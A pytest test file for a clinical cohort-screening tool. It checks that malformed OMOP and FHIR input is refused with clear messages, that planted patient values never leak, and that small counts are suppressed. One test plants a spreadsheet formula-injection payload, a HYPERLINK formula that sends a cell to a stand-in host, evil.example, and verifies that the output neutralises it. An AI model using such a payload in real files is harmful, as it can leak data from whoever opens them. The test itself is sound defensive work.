"""`b12pain screen` on malformed or mistaken input: exit 2 naming the table, the column and the
format expected (or the fix), never a traceback, never "a bug", never a cell of patient data;
and rules refused where the source cannot support them (issue 12, issue 14)."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from b12pain.cohort.screen import screen
from b12pain.cohort.synth import RULE_A, RULE_B, RULE_C, generate_omop, render_fhir
from b12pain.errors import InputError
from cohort_helpers import (
    AS_OF,
    METFORMIN,
    Omop,
    b12_observation,
    day,
    metformin_request,
    patient,
    run_cli,
    write_ndjson,
)

#: A value planted in the bad cell: it must never be printed.
SECRET = "SECRET-4711"


def screen_cli(source: Path, out: Path, *extra: str, fmt: str | None = "omop") -> object:
    args = ["screen", "--input", str(source), "--as-of", AS_OF.isoformat(), "--out", str(out)]
    if fmt is not None:
        args += ["--format", fmt]
    return run_cli(
        *args,
        "--no-cache",
        *extra,
        env={**os.environ, "B12PAIN_DATA_DIR": str(out.parent / "data")},
    )


def assert_refused(done: object, *words: str) -> str:
    """Exit 2, the words in the message, no traceback, no "bug", no planted cell value."""
    stderr = done.stderr  # type: ignore[attr-defined]
    stdout = done.stdout  # type: ignore[attr-defined]
    assert done.returncode == 2, (stdout, stderr)  # type: ignore[attr-defined]
    for word in words:
        assert word in stderr, (word, stderr)
    for text in (stdout, stderr):
        assert SECRET not in text
        assert "Traceback" not in text and "bug in b12pain" not in text
    return str(stderr)


def base() -> Omop:
    return Omop().person(1).drug(1, METFORMIN, -300, -100)


def _set_cell(folder: Path, table: str, column: str, value: str, row: int = 0) -> None:
    """Overwrite one cell of a written CSV (the test helper writes with a header row)."""
    import csv

    path = folder / f"{table}.csv"
    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    rows[row + 1][rows[0].index(column)] = value
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)


@pytest.mark.parametrize(
    ("table", "column", "value", "expected"),
    [
        ("person", "person_id", f"{SECRET}", "an integer id"),
        ("drug_exposure", "drug_concept_id", f"x{SECRET}", "an integer id"),
        ("drug_exposure", "drug_exposure_start_date", f"{SECRET}", "YYYY-MM-DD"),
        ("observation_period", "observation_period_end_date", "2026-02-30", "YYYY-MM-DD"),
        ("measurement", "measurement_date", "0001-01-01", "1800-2199"),
        ("measurement", "value_as_number", f"{SECRET}", "a number"),
        ("person", "year_of_birth", f"19{SECRET}", "a whole number"),
    ],
)
def test_bad_values_are_refused_naming_table_column_and_format(
    tmp_path: Path, table: str, column: str, value: str, expected: str
) -> None:
    folder = base().write(tmp_path / "omop")
    _set_cell(folder, table, column, value)
    done = screen_cli(folder, tmp_path / "flags.csv")
    assert_refused(done, f"{table}.{column}", expected)
    assert not (tmp_path / "flags.csv").exists()


def test_missing_column_is_refused(tmp_path: Path) -> None:
    folder = base().write(tmp_path / "omop")
    path = folder / "drug_exposure.csv"
    lines = path.read_text().splitlines()
    lines[0] = lines[0].replace("drug_concept_id", "drug_code")
    path.write_text("\n".join(lines) + "\n")
    assert_refused(
        screen_cli(folder, tmp_path / "f.csv"), "drug_exposure.drug_concept_id", "column missing"
    )


def test_truncated_csv_is_refused_with_its_line(tmp_path: Path) -> None:
    folder = base().write(tmp_path / "omop")
    path = folder / "drug_exposure.csv"
    path.write_text(path.read_text() + f"99,1,{SECRET}")  # the header, two rows, then this
    stderr = assert_refused(
        screen_cli(folder, tmp_path / "f.csv"), "drug_exposure", "malformed CSV"
    )
    assert "(line 4)" in stderr


def test_unclosed_quote_is_refused(tmp_path: Path) -> None:
    folder = base().write(tmp_path / "omop")
    path = folder / "person.csv"
    path.write_text(path.read_text() + f'7,8532,1950,"{SECRET}\n')
    assert_refused(screen_cli(folder, tmp_path / "f.csv"), "person", "malformed CSV")


def test_truncated_parquet_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "omop"
    generate_omop(folder, 50, seed=2)
    data = (folder / "measurement.parquet").read_bytes()
    (folder / "measurement.parquet").write_bytes(data[: len(data) // 2])
    assert_refused(screen_cli(folder, tmp_path / "f.csv"), "measurement", "Parquet")


def test_text_ids_in_parquet_are_refused(tmp_path: Path) -> None:
    import duckdb

    folder = tmp_path / "omop"
    generate_omop(folder, 50, seed=2)
    duckdb.execute(
        f"COPY (SELECT CASE WHEN person_id = 3 THEN '{SECRET}' ELSE CAST(person_id AS VARCHAR) END AS person_id, "
        f"* EXCLUDE (person_id) FROM '{folder}/person.parquet') TO '{folder}/person2.parquet'"
    )
    (folder / "person2.parquet").replace(folder / "person.parquet")
    assert_refused(screen_cli(folder, tmp_path / "f.csv"), "person.person_id", "an integer id")


def test_truncated_ndjson_is_refused(tmp_path: Path) -> None:
    write_ndjson(tmp_path / "fhir", "Patient", [patient("a")])
    file = tmp_path / "fhir" / "Patient.000.ndjson"
    file.write_text(file.read_text() + '{"resourceType": "Patient", "id": "' + SECRET)
    done = screen_cli(tmp_path / "fhir", tmp_path / "f.csv", fmt="fhir-bulk")
    assert_refused(done, "Patient", "not valid NDJSON")


@pytest.mark.parametrize(
    ("resource", "element"),
    [
        (patient("a", birthDate="1960-13-45"), "Patient.birthDate"),
        (patient("a", birthDate=SECRET), "Patient.birthDate"),
        ({"resourceType": "Patient", "birthDate": "1960-01-01"}, "Patient.id"),
    ],
)
def test_impossible_fhir_dates_and_missing_ids_are_refused(
    tmp_path: Path, resource: dict[str, object], element: str
) -> None:
    write_ndjson(tmp_path / "fhir", "Patient", [resource])
    assert_refused(screen_cli(tmp_path / "fhir", tmp_path / "f.csv", fmt="fhir-bulk"), element)


def test_hyperlink_id_is_neutralised_in_flags_csv(tmp_path: Path) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    fhir = tmp_path / "fhir"
    write_ndjson(fhir, "Patient", [patient(evil), patient("@lab")])
    write_ndjson(fhir, "MedicationRequest", [metformin_request(evil, -300, {"value": 200})])
    write_ndjson(fhir, "Observation", [b12_observation("@lab", -5)])
    out = tmp_path / "flags.csv"
    done = screen_cli(fhir, out, fmt="fhir-bulk")
    assert done.returncode == 0, done.stderr  # type: ignore[attr-defined]
    import csv

    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["person_id"] for r in rows] == ["'" + evil]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_source_summary_suppresses_small_counts(tmp_path: Path) -> None:
    folder = base().write(tmp_path / "omop")  # 2 people, 1 B12 result, 1 flag
    done = screen_cli(folder, tmp_path / "f.csv")
    assert done.returncode == 0, done.stderr  # type: ignore[attr-defined]
    source = next(line for line in done.stdout.splitlines() if line.startswith("Source:"))  # type: ignore[attr-defined]
    assert (
        source.startswith("Source: <11 people, <11 under observation") and "<11 B12 test" in source
    )
    as_json = screen_cli(folder, tmp_path / "g.csv", "--json")
    summary = json.loads(as_json.stdout)  # type: ignore[attr-defined]
    assert summary["completeness"]["persons"] == "<11"
    flagged = {r["rule_id"]: r["flagged"] for r in summary["rules"]}
    assert flagged[RULE_A] == "<11" and flagged[RULE_B] == "0"


def test_suppression_of_counts() -> None:
    from b12pain.cohort.output import suppressed

    assert [suppressed(n, 11) for n in (0, 1, 10, 11, 12345)] == ["0", "<11", "<11", "11", "12345"]


def test_synth_output_folder_hints_the_inner_folder(tmp_path: Path) -> None:
    generate_omop(tmp_path / "synth" / "omop", 40, seed=1)
    render_fhir(tmp_path / "synth" / "omop", tmp_path / "synth" / "fhir")
    done = screen_cli(tmp_path / "synth", tmp_path / "f.csv")
    assert_refused(done, "--input", str(tmp_path / "synth" / "omop"))
    done = screen_cli(tmp_path / "synth", tmp_path / "f.csv", fmt="fhir-bulk")
    assert_refused(done, "--input", str(tmp_path / "synth" / "fhir"))


def test_fhir_folder_with_the_default_format_hints_fhir_bulk(tmp_path: Path) -> None:
    write_ndjson(tmp_path / "fhir", "Patient", [patient("a")])
    assert_refused(
        screen_cli(tmp_path / "fhir", tmp_path / "f.csv", fmt=None), "--format fhir-bulk"
    )
    omop = base().write(tmp_path / "omop")
    assert_refused(screen_cli(omop, tmp_path / "f.csv", fmt="fhir-bulk"), "--format omop")


def test_nobody_under_observation_names_the_data_date_range(tmp_path: Path) -> None:
    data = Omop(lab_feed=False).person(1, observed=(-3000, -1000)).drug(1, METFORMIN, -1300, -1100)
    done = screen_cli(data.write(tmp_path / "omop"), tmp_path / "f.csv")
    stderr = assert_refused(done, "--as-of", "nobody is under observation")
    assert f"from {day(-3000)} to {day(-1000)}" in stderr


def test_source_without_drug_records_refuses_the_drug_rules(tmp_path: Path) -> None:
    data = Omop().person(1).test(1, -30, 100)
    result = screen(data.write(tmp_path / "omop", skip=("drug_exposure",)), "omop", AS_OF)
    assert {RULE_A, RULE_C} <= set(result.refused)
    assert "no drug records" in result.refused[RULE_C]
    assert RULE_B not in result.refused
    # An empty drug table is the same as none.
    empty = Omop(lab_feed=False).person(1).test(1, -30, 100).write(tmp_path / "empty")
    assert "no drug records" in screen(empty, "omop", AS_OF).refused[RULE_A]


def test_library_raises_input_error_not_engine_error(tmp_path: Path) -> None:
    folder = base().write(tmp_path / "omop")
    _set_cell(folder, "person", "person_id", SECRET)
    with pytest.raises(InputError) as caught:
        screen(folder, "omop", AS_OF)
    assert SECRET not in str(caught.value)


def test_spark_without_pyspark_says_install_the_extra(tmp_path: Path) -> None:
    folder = base().write(tmp_path / "omop")
    hide = "import sys; sys.modules['pyspark'] = None"
    done = run_cli(
        "screen",
        "--input",
        str(folder),
        "--as-of",
        AS_OF.isoformat(),
        "--out",
        str(tmp_path / "f.csv"),
        "--engine",
        "spark",
        prelude=hide,
    )
    assert_refused(done, "--engine", "install b12pain[spark]")


def test_spark_without_java_says_it_needs_a_java_runtime(tmp_path: Path) -> None:
    folder = base().write(tmp_path / "omop")
    env = {k: v for k, v in os.environ.items() if k != "JAVA_HOME"}
    bin_dir = tmp_path / "bin"  # a PATH with no java on it
    bin_dir.mkdir()
    env["PATH"] = str(bin_dir)
    assert shutil.which("java", path=env["PATH"]) is None
    done = run_cli(
        "screen",
        "--input",
        str(folder),
        "--as-of",
        AS_OF.isoformat(),
        "--out",
        str(tmp_path / "f.csv"),
        "--engine",
        "spark",
        env=env,
    )
    assert_refused(done, "--engine", "needs a Java runtime")


def test_named_pipe_in_the_input_folder_is_refused_not_read(tmp_path: Path) -> None:
    folder = base().write(tmp_path / "omop")
    (folder / "measurement.csv").unlink()
    os.mkfifo(folder / "measurement.csv")
    assert_refused(screen_cli(folder, tmp_path / "f.csv"), "measurement", "not a regular file")
    write_ndjson(tmp_path / "fhir", "Patient", [patient("a")])
    os.mkfifo(tmp_path / "fhir" / "Observation.000.ndjson")
    done = screen_cli(tmp_path / "fhir", tmp_path / "f.csv", fmt="fhir-bulk")
    assert_refused(done, "Observation", "not a regular file")


def test_an_unforeseen_engine_failure_never_quotes_its_message(tmp_path: Path) -> None:
    """An engine error the checks did not foresee is reported as a bug (exit 1) without the
    engine's message, which can quote patient data."""
    folder = base().write(tmp_path / "omop")
    boom = (
        "import duckdb, b12pain.cohort.screen as s\n"
        "def fail(*a, **k): raise duckdb.ConversionException('Could not convert " + SECRET + "')\n"
        "s.screen = fail"
    )
    done = run_cli(
        "screen", "--input", str(folder), "--as-of", AS_OF.isoformat(), "--out",
        str(tmp_path / "f.csv"), prelude=boom,
    )  # fmt: skip
    assert done.returncode == 1
    assert SECRET not in done.stderr + done.stdout
    assert "its message is not shown" in done.stderr and "Traceback" not in done.stderr
